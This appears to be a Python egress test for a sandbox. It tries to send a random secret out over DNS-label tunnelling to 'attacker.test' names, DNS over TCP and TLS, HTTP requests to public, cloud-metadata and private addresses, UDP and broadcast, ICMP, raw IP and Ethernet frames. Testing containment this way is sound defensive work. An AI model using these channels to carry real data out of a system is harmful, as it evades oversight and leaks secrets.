# SPDX-License-Identifier: Apache-2.0
"""Tries to get a word out, whichever way: as a program would that has been told to and is not looked after.

Prints what somebody outside would see of it, in the words of capture.py: PROTOCOL DESTINATION PORT.
"""
import concurrent.futures
import os
import socket
import ssl
import struct

SECRET = os.urandom(90).hex()
SERVERS = ["93.184.216.34", "93.184.216.53", "2606:2800:220:1::34"]
STRANGERS = ["8.8.8.8", "1.1.1.1", "2001:4860:4860::8888"]
METADATA = ["169.254.169.254", "168.63.129.16", "100.100.100.200", "fd00:ec2::254"]
PRIVATE = ["10.0.0.1", "172.17.0.1", "192.168.1.1", "fd12::1"]
ALL = SERVERS + STRANGERS + METADATA + PRIVATE


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def says(protocol, host, port):
    print(protocol, host, port, flush=True)


def question(name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return os.urandom(2) + b"\x01\0\0\x01" + b"\0" * 6 + labels + b"\0\0\x10\0\x01"


def names():
    """Long ones, of which each carries a part of the secret."""
    for below in "attacker.test", "example.test":
        for i in range(50):
            yield f"{SECRET[:60]}.{SECRET[60:120]}.{SECRET[120:]}.{i}.{below}"


def attempt(work, *arguments):
    try:
        work(*arguments)
    except OSError:
        pass


def datagram(host, port, data):
    with socket.socket(family(host), socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(data, (host, port))


def connection(host, port, data):
    with socket.socket(family(host)) as s:
        s.settimeout(0.5)
        s.connect((host, port))
        s.sendall(data)
        s.recv(1)


def at_once(host, port, data):
    """With data in the first packet."""
    with socket.socket(family(host)) as s:
        s.settimeout(0.5)
        s.sendto(data, socket.MSG_FASTOPEN, (host, port))


def tls(host, port, name):
    context = ssl._create_unverified_context()  # pylint: disable=protected-access
    with socket.create_connection((host, port), 0.5) as s, context.wrap_socket(s, server_hostname=name) as t:
        t.sendall(b"POST /dns-query HTTP/1.1\r\nHost: example.test\r\nContent-Length: 180\r\n\r\n" + SECRET.encode())
        t.recv(1)


def raw(host, number, data):
    with socket.socket(family(host), socket.SOCK_RAW, number) as s:
        s.sendto(data, (host, 0))


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\0\0\0\0\0\0\0" + SECRET.encode(), (host, 0))


def frame():
    """To everybody on every cable."""
    for _, interface in socket.if_nameindex():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            s.bind((interface, 0))
            s.send(b"\xff" * 6 + b"\0" * 6 + b"\x88\xb5" + SECRET.encode())


def ask_everybody():
    """The system's own resolver, and all the others by hand."""
    with open("/etc/resolv.conf", encoding="utf-8") as f:
        own = [line.split()[1] for line in f if line.startswith("nameserver")]
    for host in own + SERVERS + STRANGERS:
        if host not in own:
            says("udp", host, 53)
        for name in names():
            attempt(datagram, host, 53, question(name))
    for name in list(names())[::25]:
        attempt(socket.getaddrinfo, name, 80)


def tunnels(pool):
    for host in SERVERS + STRANGERS:
        q = question(next(names()))
        says("tcp", host, 53)
        pool.submit(attempt, connection, host, 53, struct.pack(">H", len(q)) + q)
        for port in 443, 853:
            for name in "example.test", "dns.test", None:
                pool.submit(attempt, tls, host, port, name)
            says("tcp", host, port)


def addresses(pool):
    for host in ALL:
        for port in 22, 80, 8080, 9000, 1:
            says("tcp", host, port)
            request = b"GET /%s HTTP/1.1\r\nHost: example.test\r\n\r\n" % SECRET.encode()
            pool.submit(attempt, connection, host, port, request)
        pool.submit(attempt, at_once, host, 80, SECRET.encode())


def datagrams():
    for host in ALL + ["255.255.255.255", "224.0.0.251"]:
        for port in 1, 67, 123, 443, 4789, 5353, 9999, 65535:
            says("udp", host, port)
            attempt(datagram, host, port, SECRET.encode())


def packets():
    echo = b"\x08\0" + struct.pack(">H", 0xF7FF) + b"\0" * 4
    for host in "8.8.8.8", "93.184.216.34":
        says("icmp", host, "-")
        attempt(raw, host, socket.IPPROTO_ICMP, echo)
        attempt(ping, host)
        says("protocol132", host, "-")
        attempt(raw, host, 132, SECRET.encode())
        whole = struct.pack(">BBHHHBBH4s4s", 69, 0, 28, 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(host))
        says("udp", host, 4444)
        attempt(raw, host, socket.IPPROTO_RAW, whole + struct.pack(">HHHH", 1, 4444, 8, 0))
    says("protocol132", "2001:4860:4860::8888", "-")
    attempt(raw, "2001:4860:4860::8888", 132, SECRET.encode())
    says("ether", "0x88b5", "-")
    attempt(frame)


def main():
    ask_everybody()
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        tunnels(pool)
        addresses(pool)
    datagrams()
    packets()


main()
